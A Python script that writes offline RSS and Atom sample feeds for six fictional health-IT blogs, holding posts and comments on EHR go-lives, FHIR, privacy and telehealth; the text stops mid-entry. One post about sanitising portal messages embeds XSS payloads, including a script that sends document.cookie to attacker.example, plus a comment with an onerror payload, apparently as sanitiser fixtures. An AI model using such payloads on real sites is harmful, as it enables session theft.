#!/usr/bin/env python3
"""Writes the offline sample under feeds/sample/ from the text held here.

Six fictional health-IT blogs (every name, domain and word is invented):

  cmio-notes/         CMIO Notes          WordPress RSS 2.0, dates in +0000
  fhir-desk/          The FHIR Desk       WordPress RSS 2.0, dates in -0500
  minimum-necessary/  Minimum Necessary   Atom 1.0 with RFC 4685 threading,
                                          entries in -08:00, comments in Z
  virtual-visit/      Virtual Visit       WordPress RSS 2.0, dates in GMT
  payment-matters/    Payment Matters     WordPress RSS 2.0, dates in EST
  bedside-informatics/ Bedside Informatics RSS 2.0 without comment feeds;
                                          pages/<slug>.html name them

Each blog has feed.xml and comments/<slug>.xml (one comment feed per article
that takes comments).  Links to comment feeds are relative, so they resolve
against the feed file's own file:// location.  Run it again after editing
the text: the output is deterministic (no clock, no randomness).

    python3 feeds/sample/make-sample.py [OUTDIR]
"""
import datetime as dt
import html
import os
import re
import sys
from xml.sax.saxutils import escape, quoteattr

UTC = dt.timezone.utc


def when(s):
    """'2026-11-02 14:05' (UTC) -> aware datetime."""
    return dt.datetime.strptime(s, "%Y-%m-%d %H:%M").replace(tzinfo=UTC)


ZONES = {"+0000": 0, "-0500": -5, "EST": -5, "GMT": 0,
         "-08:00": -8, "Z": 0}


def rfc822(t, zone):
    local = t + dt.timedelta(hours=ZONES[zone])
    return local.strftime("%a, %d %b %Y %H:%M:%S ") + zone


def rfc3339(t, zone):
    local = t + dt.timedelta(hours=ZONES[zone])
    return local.strftime("%Y-%m-%dT%H:%M:%S") + zone


def cdata(s):
    assert "]]>" not in s
    return "<![CDATA[" + s + "]]>"


def plain(h):
    t = re.sub(r"(?is)<script.*?</script>", " ", h)
    t = re.sub(r"<[^>]+>", " ", t)
    t = html.unescape(t)
    return re.sub(r"\s+", " ", t).strip()


def excerpt(h, words=40):
    w = plain(h).split()
    if len(w) <= words:
        return " ".join(w)
    return " ".join(w[:words]) + " [&#8230;]"


def wp_title(s):
    """WordPress writes curly apostrophes as numeric references."""
    return escape(s).replace("'", "&#8217;")

# ---------------------------------------------------------------------------
# The blogs.  Articles: slug, title, UTC time, author, categories, HTML body,
# comments ("none": no comment feed at all, comments closed) as a list of
# (key, author, UTC time, parent key or None, HTML text[, comment id]).
# ---------------------------------------------------------------------------

CMIO = {
    "dir": "cmio-notes", "kind": "wordpress", "zone": "+0000",
    "title": "CMIO Notes",
    "link": "https://cmio-notes.example",
    "description": "A chief medical information officer on go-lives, "
                   "order sets and the clinicians who live with them",
    "post_id": 2101, "comment_id": 5301,
    "articles": [
        {"slug": "go-live-minus-30", "date": "2026-11-02 14:05",
         "title": "Go-live minus 30: what our command center checklist looks like",
         "author": "Dr. Alana Whitfield", "cats": ["Go-live", "EHR"],
         "body": """<p>Thirty days out from our ambulatory cutover, the command center stopped being a slide and became a room. We took over the old education suite, ran four extra network drops, and taped the floor where the ticket triage table goes. None of that is the hard part.</p>
<p>The hard part is deciding, in advance, who is allowed to say &ldquo;stop.&rdquo; Our checklist now has three names on it for that call, and a rule that any one of them can pause a rollout wave without asking the other two.</p>
<ul>
<li>Daily huddle at 07:00 and 16:00, fifteen minutes, standing.</li>
<li>Every ticket gets a clinical severity, not just an IT priority.</li>
<li>One whiteboard for issues that touch patient safety. Nothing else goes on it.</li>
</ul>
<p>I&rsquo;ll post the full checklist after go-live, with the items we ended up ignoring marked honestly.</p>""",
         "comments": [
             ("a", "Tom Becker", "2026-11-02 16:40", None,
              "<p>The severity column is the thing we missed last time. Our IT queue was sorted by how loud the caller was.</p>"),
             ("b", "Dr. Alana Whitfield", "2026-11-02 18:12", "a",
              "<p>Loudness-based triage is more common than anyone admits. We had the same problem in 2022.</p>"),
             ("c", "Marisol Ortega, RN", "2026-11-03 02:55", None,
              "<p>Please put a nurse on the list of people who can say stop. Nursing sees a broken workflow at 3 a.m. long before anyone in the command center does.</p>"),
             ("d", "Dr. Alana Whitfield", "2026-11-03 11:20", "c",
              "<p>Fair point, and done: our CNIO is one of the three.</p>"),
             ("e", "Ken Yamada", "2026-11-04 09:03", None,
              "<p>Standing huddles for the win. Ours drifted to 45 minutes once chairs appeared.</p>"),
         ]},
        {"slug": "super-users-are-not-a-training-plan", "date": "2026-11-04 13:30",
         "title": "Super-users are not a training plan",
         "author": "Dr. Alana Whitfield", "cats": ["Training"],
         "body": """<p>Every go-live plan I have read leans on super-users, and every one of them assumes the super-user has free time. They don&rsquo;t. The charge nurse who knows the new medication administration screens best is also the charge nurse.</p>
<p>This time we are buying back hours: each unit gets backfill for its super-users during the first two weeks, paid out of the project budget, not the unit&rsquo;s. It costs less than one week of delayed discharges.</p>""",
         "comments": [
             ("a", "Priya Nandakumar", "2026-11-04 15:10", None,
              "<p>Backfill out of the project budget is the key sentence here. Otherwise managers quietly pull super-users back to the floor on day two.</p>"),
             ("b", "Greg Hollis", "2026-11-05 08:47", None,
              "<p>How many super-users per unit did you settle on? We went with one per shift and it was not enough.</p>"),
             ("c", "Dr. Alana Whitfield", "2026-11-05 12:02", "b",
              "<p>Two per shift for inpatient units, one per clinic session for ambulatory. Ask me again in a month whether that held.</p>"),
         ]},
        {"slug": "first-72-hours-after-cutover", "date": "2026-11-06 21:15",
         "title": "The first 72 hours after cutover",
         "author": "Dr. Alana Whitfield", "cats": ["Go-live", "EHR"],
         "body": """<p>We cut over at 02:00&nbsp;on Saturday. By Monday afternoon the ticket count had peaked and started to fall, which matches what peers told us to expect. What surprised me was where the tickets came from.</p>
<p>Printing, as always, was first. Second was not clinical at all: the badge-tap login on shared workstations timed out too fast for the emergency department. Third was the one that worried me, a handful of medication orders whose default frequency did not match what the old system had used.</p>
<blockquote><p>If a default changed, assume someone will accept it without reading it.</p></blockquote>
<p>We pulled pharmacy into the command center full-time from Sunday morning on. That single decision probably saved us a week.</p>""",
         "comments": [
             ("a", "Sam Adeyemi", "2026-11-07 01:20", None,
              "<p>Printing first, every single time. I want that on a T-shirt.</p>"),
             ("b", "Lena Fischer, PharmD", "2026-11-07 09:33", None,
              "<p>Thank you for saying the frequency defaults part out loud. Pharmacy should be in the build, not just the command center.</p>"),
             ("c", "Dr. Alana Whitfield", "2026-11-07 10:15", "b",
              "<p>Agreed. Next phase, pharmacy signs off on every order-set default before it ships.</p>"),
             ("d", "Lena Fischer, PharmD", "2026-11-07 13:40", "c",
              "<p>Holding you to that.</p>"),
             ("e", "Ravi Menon", "2026-11-08 17:05", None,
              "<p>Badge-tap timeouts in the ED: did you shorten the lock or lengthen it? Our security team and our ED chair are still arguing.</p>"),
             ("f", "Dr. Alana Whitfield", "2026-11-08 19:30", "e",
              "<p>Lengthened it to four minutes on ED workstations only, with a proximity lock. Security signed off after we showed them the tap logs.</p>"),
         ]},
        {"slug": "froze-order-set-changes", "date": "2026-11-09 15:00",
         "title": "Why we froze order-set changes for six weeks",
         "author": "Dr. Alana Whitfield", "cats": ["Order sets"],
         "body": """<p>Right after go-live everyone has a fix for an order set. Most of the fixes are good. Taken together they are chaos, because a clinician who learned the screen on Monday finds it different on Thursday.</p>
<p>So we froze changes for six weeks, with a safety exception that needs two physician informaticists to sign. The backlog is long, and that&rsquo;s fine: it is now a prioritised list instead of a stream of hallway requests.</p>""",
         "comments": []},
        {"slug": "inbox-volume-after-go-live", "date": "2026-11-11 12:45",
         "title": "Inbox volume after go-live: the numbers nobody budgets for",
         "author": "Dr. Alana Whitfield", "cats": ["Inbox", "Burnout"],
         "body": """<p>Two weeks after cutover, primary care inbox messages per physician are up 38% against the same weeks last year. Some of that is real patient demand; a lot of it is result routing we did not tune before go-live.</p>
<p>We are now routing normal lab results with no action needed to a separate folder, and our nurses are handling refill requests under a protocol. Early numbers look better, but I don&rsquo;t trust a trend of nine days.</p>""",
         "comments": [
             ("a", "Zoë Lambert", "2026-11-11 14:02", None,
              "<p>We did the same normal-results folder and then discovered half of our physicians never opened it. Audit it after a month.</p>"),
             ("b", "Dr. Alana Whitfield", "2026-11-11 16:48", "a",
              "<p>Good warning. We will add a monthly sample review.</p>"),
             ("c", "Harold Quist", "2026-11-12 07:30", None,
              "<p>38% is in line with what we saw. It came down to about +12% by month three.</p>"),
             ("d", "Nadia Haddad", "2026-11-13 20:11", None,
              "<p>Refill protocols are the best thing we ever did for inbox load. Make sure the protocol is signed by your P&amp;T committee.</p>"),
             # The thread goes on into the next week (W47); WordPress
             # numbers comments as they come, so these late ones have
             # higher ids than the comments of later articles.
             ("e", "Greg Hollis", "2026-11-18 09:15", "c",
              "<p>Month three is when ours came down too, but only after we stopped sending a second notification for every corrected result. Did you have duplicates like that?</p>", 5331),
             ("f", "Dr. Alana Whitfield", "2026-11-18 17:40", "e",
              "<p>We do. Our analysts are counting them this week; if they are more than a few percent of the inbox, they go.</p>", 5332),
             ("g", "Priya Nandakumar", "2026-11-19 11:30", "a",
              "<p>We ran that audit after a month, as Zo&euml; suggests: one physician in seven had never opened the normal-results folder.</p>", 5333),
         ]},
        {"slug": "downtime-drills-paper-still-matters", "date": "2026-11-13 10:20",
         "title": "Downtime drills: paper still matters",
         "author": "Dr. Alana Whitfield", "cats": ["Downtime", "Safety"],
         "body": """<p>Our first planned downtime on the new system is next month, and the drill last night showed that half the units could not find their downtime binders. The read-only backup workstations worked; the people did not know which ones they were.</p>
<p>We are labelling the backup machines with bright tape and adding a two-minute downtime question to every unit huddle until the real event.</p>""",
         "comments": "none"},
        {"slug": "ambient-scribe-pilot-month-one", "date": "2026-11-17 16:30",
         "title": "Ambient scribe pilot: month one",
         "author": "Dr. Alana Whitfield", "cats": ["AI", "Documentation"],
         "body": """<p>Twenty-two physicians have used an ambient documentation tool for a month. Median time in notes after clinic hours fell from 58 to 31 minutes a day. Satisfaction is high. Accuracy is good, not perfect.</p>
<p>The errors are the kind that matter: a medication the patient said they <em>stopped</em> recorded as current, a laterality swapped once. Every note is still reviewed and signed by the physician, and we are tracking every correction they make.</p>
<p>Next month we add eight advanced practice providers and start measuring whether patients notice a difference.</p>""",
         "comments": [
             ("a", "José Ibáñez", "2026-11-17 19:05", None,
              "<p>How are you capturing the corrections? We tried a free-text feedback box and nobody used it.</p>"),
             ("b", "Dr. Alana Whitfield", "2026-11-18 08:00", "a",
              "<p>We diff the draft against the signed note. No extra clicks for the physician.</p>"),
             ("c", "Beth Carrow", "2026-11-18 13:27", None,
              "<p>Did you ask patients for consent before each visit or once at registration?</p>"),
             ("d", "Dr. Alana Whitfield", "2026-11-18 15:50", "c",
              "<p>At each visit, verbally, with a sign in every exam room. Fewer than 2% declined.</p>"),
         ]},
        {"slug": "thanking-the-night-shift", "date": "2026-11-20 22:10",
         "title": "Thanking the night shift",
         "author": "Dr. Alana Whitfield", "cats": ["Go-live"],
         "body": """<p>A short one. Most of our go-live problems were found, reported and worked around by people who were on shift between 23:00 and 07:00, when the command center was thinnest. This week we took breakfast to every night unit. It is not enough, but it is a start.</p>""",
         "comments": [
             ("a", "Marisol Ortega, RN", "2026-11-21 06:45", None,
              "<p>The night shift noticed. Thank you.</p>"),
             ("b", "Carl Jensen", "2026-11-21 12:30", None,
              "<p>More leaders should do this, and do it before go-live too.</p>"),
         ]},
    ],
}

FHIR = {
    "dir": "fhir-desk", "kind": "wordpress", "zone": "-0500",
    "title": "The FHIR Desk",
    "link": "https://fhir-desk.example",
    "description": "Interoperability from the interface team's side of the "
                   "desk: FHIR, USCDI, TEFCA and the messages in between",
    "post_id": 880, "comment_id": 1701,
    "articles": [
        {"slug": "bulk-fhir-exports-what-broke-first", "date": "2026-11-02 17:20",
         "title": "Bulk FHIR exports in practice: what broke first",
         "author": "Marcus Lindqvist", "cats": ["FHIR", "Bulk Data"],
         "body": """<p>We ran our first full population export for an ACO partner last month: 140,000&nbsp;patients, every resource type they asked for. The export itself finished overnight. Everything after it took two weeks.</p>
<p>What broke first was not the server. It was the partner&rsquo;s loader, which expected one NDJSON file per resource type and got eleven Observation files because our server splits at a size limit. Second was identifier systems: three different MRN namespaces, none documented.</p>
<p>Lesson: send a sample export and a one-page README <strong>before</strong> the real one.</p>""",
         "comments": [
             ("a", "Aiko Tanaka", "2026-11-02 19:02", None,
              "<p>The split-file surprise got us too. The spec allows it, and nobody reads that part.</p>"),
             ("b", "Marcus Lindqvist", "2026-11-02 20:15", "a",
              "<p>Exactly. &ldquo;The spec allows it&rdquo; should be printed on every interface engine.</p>"),
             ("c", "Devon Price", "2026-11-03 14:40", None,
              "<p>Did you use group-level export or system-level? Group-level saved us a lot of filtering.</p>"),
             ("d", "Marcus Lindqvist", "2026-11-03 16:09", "c",
              "<p>Group-level, with the attribution list as the group. System-level would have exported everyone we ever saw.</p>"),
         ]},
        {"slug": "uscdi-v5-field-guide", "date": "2026-11-05 15:00",
         "title": "USCDI v5 data elements: a field guide for interface teams",
         "author": "Marcus Lindqvist", "cats": ["USCDI", "Standards"],
         "body": """<p>Every new USCDI version reads like a list of nouns. For an interface team each noun is a question: where does this live in our system today, who enters it, and is it coded?</p>
<p>I went through the new elements with our analysts and sorted them into three piles: already captured and coded, captured as free text, and not captured at all. The third pile is short. The second pile is where the work is.</p>""",
         "comments": [
             ("a", "Rebecca Thorne", "2026-11-05 18:30", None,
              "<p>Free text is always the second pile and always the biggest. Would love to see your spreadsheet.</p>"),
             ("b", "Olu Bankole", "2026-11-06 10:12", None,
              "<p>Sorting by &ldquo;who enters it&rdquo; is the smart move. Half our gaps were registration, not clinical.</p>"),
             ("c", "Marcus Lindqvist", "2026-11-06 11:44", "a",
              "<p>I&rsquo;ll clean it up and post a template next week.</p>"),
         ]},
        {"slug": "tefca-after-year-one", "date": "2026-11-10 14:00",
         "title": "TEFCA after year one: what the exchange numbers do and don't say",
         "author": "Marcus Lindqvist", "cats": ["TEFCA", "Policy"],
         "body": """<p>The headline numbers for nationwide exchange look good: more participants, more queries, more documents returned. As someone who builds the interfaces, I read them with two questions in mind.</p>
<p>First, what share of those queries came back with something a clinician used? A returned document that nobody opens is traffic, not interoperability. Second, how many of the queries were for treatment, and how many for everything else? The framework allows several purposes, and the mix is changing.</p>
<p>Neither number is published in a way that answers those questions today. Until it is, be careful with any slide that says exchange &ldquo;doubled.&rdquo;</p>""",
         "comments": [
             ("a", "Gwen Asante", "2026-11-10 16:25", None,
              "<p>Cross-posting this to Payment Matters with your permission, because the purpose-of-use mix is a policy question as much as a technical one.</p>"),
             ("b", "Marcus Lindqvist", "2026-11-10 17:02", "a",
              "<p>Permission granted, happily.</p>"),
             ("c", "Ibrahim Sall", "2026-11-11 09:18", None,
              "<p>We track &ldquo;document opened within 24 hours&rdquo; internally. It is sobering. Around one in five.</p>"),
             ("d", "Marcus Lindqvist", "2026-11-11 10:40", "c",
              "<p>That is exactly the metric I wish were reported nationally.</p>"),
             ("e", "Helen Park", "2026-11-12 21:55", "c",
              "<p>One in five matches our data too, but it jumps when results land in the problem list reconciliation view instead of a separate tab.</p>"),
         ]},
        {"slug": "smart-on-fhir-launch-context", "date": "2026-11-12 16:30",
         "title": "SMART on FHIR launch context, explained without a diagram",
         "author": "Marcus Lindqvist", "cats": ["FHIR", "SMART"],
         "body": """<p>When an app launches from inside the EHR, it needs to know which patient and which encounter the clinician is looking at. That is launch context: the EHR hands the app a short-lived launch value, the app trades it during authorization, and the token response says which patient, which encounter, and sometimes which user.</p>
<p>Most integration bugs I see come from apps that cache the patient from the last launch. Don&rsquo;t. Read the context every time.</p>""",
         "comments": []},
        {"slug": "patient-matching-still-the-hard-part", "date": "2026-11-16 15:45",
         "title": "Patient matching is still the hard part",
         "author": "Marcus Lindqvist", "cats": ["Identity", "Interoperability"],
         "body": """<p>We can move a clinical document across the country in seconds. We still cannot reliably tell whether the Maria Gonzalez in that document is our Maria Gonzalez.</p>
<p>Our match rate on inbound queries is around 92%. That sounds fine until you count the 8%: some become duplicate charts, some are matched by a person in HIM, and a few are matched wrongly. Adding a verified mobile number and email to the matching algorithm moved us two points. Address standardisation moved us one more.</p>""",
         "comments": [
             ("a", "Kerry Odell", "2026-11-16 18:10", None,
              "<p>Address standardisation is underrated. Apartment numbers alone caused a third of our near-misses.</p>"),
             ("b", "Marcus Lindqvist", "2026-11-16 19:35", "a",
              "<p>Apartment numbers and hyphenated surnames. The classics.</p>"),
             ("c", "José Ibáñez", "2026-11-17 08:22", None,
              "<p>Names with accents are another one. Some systems strip them, some don&rsquo;t, and the matcher sees two people.</p>"),
             ("d", "Marcus Lindqvist", "2026-11-17 09:50", "c",
              "<p>Yes. We normalise to unaccented for matching but always store and display the name as the patient gave it.</p>"),
             ("e", "Fatima Zahra", "2026-11-18 14:03", None,
              "<p>What does your HIM team&rsquo;s manual review queue look like per week?</p>"),
             ("f", "Marcus Lindqvist", "2026-11-18 15:30", "e",
              "<p>About 400 records a week for two people. It is most of one job.</p>"),
         ]},
        {"slug": "subscriptions-in-r5", "date": "2026-11-18 20:00",
         "title": "Subscriptions in R5: polling's long goodbye",
         "author": "Marcus Lindqvist", "cats": ["FHIR"],
         "body": """<p>Most of our partners still poll us every few minutes for new results. Topic-based subscriptions would let us notify them instead, and the reworked subscription model is far easier to implement than the first attempt was.</p>
<p>The catch is operational, not technical: someone has to own the list of subscribers, watch for endpoints that stop answering, and decide how long to retry. Polling hid those jobs inside the partner&rsquo;s system.</p>""",
         "comments": [
             ("a", "Aiko Tanaka", "2026-11-19 11:11", None,
              "<p>The &ldquo;who owns the subscriber list&rdquo; question stalled our pilot for three months.</p>"),
             ("b", "Dmitri Volkov", "2026-11-20 07:48", None,
              "<p>Heartbeats plus an automatic disable after a day of failures worked for us.</p>"),
         ]},
        {"slug": "read-the-capabilitystatement", "date": "2026-11-21 17:15",
         "title": "Read the CapabilityStatement before you sign the contract",
         "author": "Marcus Lindqvist", "cats": ["FHIR", "Procurement"],
         "body": """<p>A vendor&rsquo;s sales deck says &ldquo;full FHIR support.&rdquo; The server&rsquo;s CapabilityStatement says which resources, which interactions and which search parameters it actually supports. Ask for the second one during procurement and have an engineer read it. It takes an hour and it has saved us from two bad contracts.</p>""",
         "comments": []},
    ],
}

MINNEC = {
    "dir": "minimum-necessary", "kind": "atom", "zone": "-08:00",
    "comment_zone": "Z",
    "title": "Minimum Necessary",
    "link": "https://minimum-necessary.example/",
    "description": "Privacy and security in health care, one "
                   "HIPAA-shaped question at a time",
    "author": "Priya Raman",
    "tag": "tag:minimum-necessary.example,2026",
    "post_id": 3101, "comment_id": 71,
    "articles": [
        {"slug": "ransomware-tabletop-questions", "date": "2026-11-03 17:15",
         "title": "Ransomware tabletop: the questions that stalled us",
         "cats": ["Security", "Incident response"],
         "body": """<p>We ran a four-hour ransomware tabletop with clinical, IT, legal and communications leaders. The technical steps went quickly. The room went quiet at three questions:</p>
<ol>
<li>Who decides to divert ambulances, and on what information?</li>
<li>How do we tell patients their appointments are cancelled when the scheduling system is down?</li>
<li>Who is allowed to talk to the attackers, if anyone?</li>
</ol>
<p>None of those is a security question. All of them decide how bad the week becomes.</p>""",
         "comments": [
             ("a", "Ethan Cole", "2026-11-03 19:40", None,
              "<p>Question 2 is the one we never solved. We ended up printing schedules from a backup and phoning people.</p>"),
             ("b", "Priya Raman", "2026-11-03 21:05", "a",
              "<p>That is more or less our plan too. Printing the next three days of schedules every evening is cheap insurance.</p>"),
             ("c", "Ngozi Eze", "2026-11-04 13:20", None,
              "<p>Add a fourth: who tells the staff, and through what channel, when email is down?</p>"),
             ("d", "Martin Dahl", "2026-11-05 08:02", "c",
              "<p>We keep a text-message tree for exactly this. Test it twice a year or it rots.</p>"),
         ]},
        {"slug": "right-of-access-is-a-security-problem", "date": "2026-11-05 18:00",
         "title": "Right of access is a security problem too",
         "cats": ["HIPAA", "Patient access"],
         "body": """<p>Patients have a right to their records, quickly and in the form they ask for. Privacy teams sometimes treat that as a compliance chore. It is also an identity problem: every request has to be verified, and every release is a chance to send the wrong chart to the wrong person.</p>
<p>Our fix was boring and effective: one verification checklist, used by every department that releases records, with a second person checking anything mailed.</p>""",
         "comments": [
             ("a", "Rosa Delgado", "2026-11-05 22:30", None,
              "<p>The second-person check on mailings caught two misdirected packets for us in one quarter.</p>"),
             ("b", "Chris Bell", "2026-11-06 16:45", None,
              "<p>How do you verify identity for portal-based requests from proxies, like adult children?</p>"),
             ("c", "Priya Raman", "2026-11-06 18:10", "b",
              "<p>Proxy access is granted separately, with its own paperwork. The request itself then follows the normal path.</p>"),
         ]},
        {"slug": "pixel-trackers-one-year-later", "date": "2026-11-09 17:30",
         "title": "Pixel trackers on patient portals, one year later",
         "cats": ["Privacy", "Web"],
         "body": """<p>A year ago many hospital web teams learned that the analytics snippets on their appointment pages were sending more than page views to third parties. We audited every page that a logged-in patient can reach.</p>
<p>What we found: two tags nobody could explain, a chat widget that recorded typed text, and a marketing pixel on the bill-pay page. All are gone. The harder change was process: no new third-party script goes on a patient-facing page without a privacy review.</p>""",
         "comments": [
             ("a", "Lukas Weber", "2026-11-09 20:10", None,
              "<p>The chat widget one is scary. Was it capturing text before the user pressed send?</p>"),
             ("b", "Priya Raman", "2026-11-09 22:45", "a",
              "<p>Yes, keystrokes as typed. The vendor called it a &ldquo;typing insights&rdquo; feature.</p>"),
             ("c", "Lukas Weber", "2026-11-10 07:30", "b",
              "<p>That name deserves its own blog post.</p>"),
             ("d", "Amara Osei", "2026-11-10 15:15", None,
              "<p>A content security policy on the portal helped us keep new tags out by default.</p>"),
             ("e", "Zoë Lambert", "2026-11-11 09:00", None,
              "<p>We found the same marketing pixel on our bill-pay page. Apparently it came with a template.</p>"),
         ]},
        {"slug": "minimum-necessary-for-ai-scribes", "date": "2026-11-12 16:00",
         "title": "What 'minimum necessary' means for an AI scribe",
         "cats": ["HIPAA", "AI"],
         "body": """<p>An ambient scribe hears everything in the exam room, including things that never belong in a note. The minimum necessary standard does not map neatly onto a microphone.</p>
<p>Questions we now ask every vendor: how long is audio kept, is it used to train models, who at the vendor can listen to it, and can a patient ask for the recording to be deleted?</p>""",
         "comments": []},
        {"slug": "vendor-risk-questionnaires", "date": "2026-11-16 18:20",
         "title": "Vendor risk questionnaires nobody reads",
         "cats": ["Security", "Vendors"],
         "body": """<p>We send a 300-question security questionnaire to every new vendor. Vendors answer with a 300-row spreadsheet. Nobody reads row 212.</p>
<p>We replaced it with twenty questions that would actually change our decision, plus a request for the vendor&rsquo;s most recent independent assessment. Answers now come back in days, not weeks, and we read every one.</p>""",
         "comments": [
             ("a", "Ben Achterberg", "2026-11-16 21:05", None,
              "<p>Would you share the twenty? Happy to trade ours.</p>"),
             ("b", "Priya Raman", "2026-11-17 17:30", "a",
              "<p>I will post them once legal has read them. Soon, I hope.</p>"),
             ("c", "Sofia Marin", "2026-11-18 10:40", None,
              "<p>Asking for the independent assessment is the real filter. Some vendors go quiet right there.</p>"),
         ]},
        {"slug": "break-glass-log-review", "date": "2026-11-19 19:00",
         "title": "Break-glass access logs: reviewing them without drowning",
         "cats": ["Privacy", "Auditing"],
         "body": """<p>Emergency access to a restricted record is important to allow and important to review. Our review queue grew to 900 events a month, which means nobody really reviewed any of them.</p>
<p>We now auto-close events where the user was on the patient&rsquo;s care team that day and send the rest to a person. The queue is down to about 60 a month, and the reviewers look at each one properly.</p>""",
         "comments": [
             ("a", "Dana Whitlock", "2026-11-20 00:30", None,
              "<p>Care-team filtering is the single best rule. Watch for float staff though: they rarely appear on the care team.</p>"),
             ("b", "Priya Raman", "2026-11-20 15:05", "a",
              "<p>Good catch. We will add staffing assignments as a second source.</p>"),
         ]},
        {"slug": "weekend-reading-breach-notices", "date": "2026-11-22 18:30",
         "title": "Weekend reading: breach notices, decoded",
         "cats": ["Breaches"],
         "body": """<p>A breach notice letter is written by lawyers for regulators and mailed to patients. This weekend I read a dozen of them and rewrote each in two plain sentences: what was taken, and what the reader should do. Most fit. A few said nothing at all in four pages.</p>""",
         "comments": "none"},
    ],
}

TELE = {
    "dir": "virtual-visit", "kind": "wordpress", "zone": "GMT",
    "title": "Virtual Visit",
    "link": "https://virtual-visit.example",
    "description": "Telehealth and digital health, as seen from a "
                   "community health system's virtual care office",
    "post_id": 611, "comment_id": 940,
    "articles": [
        {"slug": "audio-only-visits", "date": "2026-11-02 10:30",
         "title": "Audio-only visits are not second-class care",
         "author": "Zoë Marchetti", "cats": ["Telehealth", "Equity"],
         "body": """<p>About a quarter of our virtual visits are audio-only. The patients who choose them are older, more rural and more often on Medicaid than our video patients. When people argue that audio-only visits should be paid less, they are arguing about those patients.</p>
<p>For follow-ups, medication checks and behavioural health, our quality measures for audio-only visits match video. For new complaints that need an exam, they don&rsquo;t, and we schedule accordingly.</p>""",
         "comments": [
             ("a", "Walter Gruber", "2026-11-02 13:15", None,
              "<p>Behavioural health is where audio-only shines. Some patients are more open without a camera.</p>"),
             ("b", "Zoë Marchetti", "2026-11-02 15:40", "a",
              "<p>Our therapists say the same thing, almost word for word.</p>"),
             ("c", "Imani Brooks", "2026-11-03 09:05", None,
              "<p>Do you have no-show rates by modality? Ours dropped a lot with audio-only.</p>"),
             ("d", "Zoë Marchetti", "2026-11-03 11:30", "c",
              "<p>Yes: 6% audio-only, 11% video, 14% in person last quarter.</p>"),
         ]},
        {"slug": "rpm-who-watches-the-dashboard", "date": "2026-11-04 14:00",
         "title": "Remote patient monitoring: who watches the dashboard at 2 a.m.?",
         "author": "Zoë Marchetti", "cats": ["Remote monitoring"],
         "body": """<p>Remote monitoring programs are easy to start and hard to staff. Blood pressure cuffs and scales send readings around the clock; the nurses who review them work days.</p>
<p>We were explicit with patients: this is not an emergency service, readings are reviewed on weekdays, and here is what to do if you feel unwell. Then we tuned alert thresholds so nurses see about twenty alerts a day instead of two hundred.</p>""",
         "comments": [
             ("a", "Henrik Olsen", "2026-11-04 16:22", None,
              "<p>Telling patients up front that it is not an emergency service matters. Our lawyers insisted on it in writing.</p>"),
             ("b", "José Álvarez", "2026-11-04 19:50", None,
              "<p>What thresholds did you land on for weight gain in heart failure patients?</p>"),
             ("c", "Zoë Marchetti", "2026-11-05 08:45", "b",
              "<p>Two kilograms in two days or three in a week, with a nurse call either way. Our cardiologists set those, not us.</p>"),
             ("d", "José Álvarez", "2026-11-05 10:10", "c",
              "<p>Thanks. Close to ours, which is reassuring.</p>"),
             ("e", "Grace Liu", "2026-11-06 20:30", None,
              "<p>Twenty a day per nurse or for the whole team?</p>"),
         ]},
        {"slug": "sanitising-portal-messages", "date": "2026-11-06 11:00",
         "title": "Sanitising what patients paste into portal messages",
         "author": "Zoë Marchetti", "cats": ["Security", "Patient portal"],
         "body": """<p>Patients paste all sorts of things into portal messages: text from a pharmacy website, a table from a spreadsheet, sometimes a chunk of a web page with its markup still attached. Our message viewer renders rich text, so what gets pasted is, in effect, a small web page shown to a clinician.</p>
<p>Here is a harmless-looking example of the kind of thing our filter has to remove before a clinician sees it:</p>
<script>document.location='https://attacker.example/steal?c='+document.cookie</script>
<p>A picture that is not a picture: <img src="https://virtual-visit.example/missing.png" onerror="alert('portal')" alt="rash photo"></p>
<p>And a link that is not a link: <a href="javascript:alert('clicked')">see my test results</a>.</p>
<p>The rule we follow: keep a short allow-list of tags and attributes, throw away everything else, and never let a link run code. The clinician should see the words, not the tricks.</p>""",
         "comments": [
             ("a", "Arjun Shah", "2026-11-06 14:35", None,
              "<p>Allow-lists, never block-lists. Block-lists always miss the next trick.</p>"),
             ("b", "Nora Kim", "2026-11-07 09:10", None,
              "<p>Testing this comment box too: <img src=\"x\" onerror=\"alert(1)\"> hope it is filtered!</p>"),
             ("c", "Zoë Marchetti", "2026-11-07 12:25", "b",
              "<p>It is. Nice try, Nora.</p>"),
         ]},
        {"slug": "licensure-compacts-cross-state", "date": "2026-11-10 13:00",
         "title": "Licensure compacts and the cross-state follow-up visit",
         "author": "Zoë Marchetti", "cats": ["Policy", "Telehealth"],
         "body": """<p>A patient who winters in another state wants a video follow-up with their own cardiologist. Whether that is allowed depends on where the patient is sitting, not where the doctor is. Compacts help physicians get licensed in more states faster, but they do not remove the need for a licence.</p>
<p>We now ask every virtual patient to confirm their location at check-in, and our schedulers keep a short list of which clinicians are licensed where.</p>""",
         "comments": []},
        {"slug": "hospital-at-home-month-six", "date": "2026-11-13 15:20",
         "title": "Hospital at home, month six",
         "author": "Dana Okoye", "cats": ["Hospital at home"],
         "body": """<p>Six months in, we have treated 212 patients at home for conditions that would otherwise have meant an admission: mostly heart failure, COPD and cellulitis. Readmissions at 30 days are lower than for comparable inpatients. Patients love it. Caregivers are tired.</p>
<p>That last point is the one we did not plan for. We are adding a caregiver check-in to every daily video round.</p>""",
         "comments": [
             ("a", "Paul Rinaldi", "2026-11-13 18:00", None,
              "<p>Caregiver fatigue is the hidden cost of every at-home model. Glad someone is measuring it.</p>"),
             ("b", "Meera Iyer", "2026-11-14 10:30", None,
              "<p>How do you handle patients who live alone?</p>"),
             ("c", "Dana Okoye", "2026-11-14 12:45", "b",
              "<p>They are eligible if they can use the tablet and reach the call button; we add an extra in-person visit each day.</p>"),
             ("d", "Meera Iyer", "2026-11-14 13:10", "c",
              "<p>That is more generous than I expected. Thank you.</p>"),
         ]},
        {"slug": "digital-front-door-too-many-doors", "date": "2026-11-17 12:00",
         "title": "The digital front door has too many doors",
         "author": "Zoë Marchetti", "cats": ["Digital health", "Patient experience"],
         "body": """<p>We counted the ways a patient can start a conversation with us online: the portal, two apps, a scheduling site, a symptom checker, text messages and a chatbot. Seven front doors, each with its own login.</p>
<p>Next year&rsquo;s goal is not a new door. It is to close four of them.</p>""",
         "comments": [
             ("a", "Oliver Grant", "2026-11-17 14:30", None,
              "<p>Closing doors is harder than opening them. Each one has an executive sponsor.</p>"),
             ("b", "Zoë Marchetti", "2026-11-17 16:05", "a",
              "<p>Two of ours have sponsors who have since left. Those go first.</p>"),
             ("c", "Leah Sommer", "2026-11-18 09:40", None,
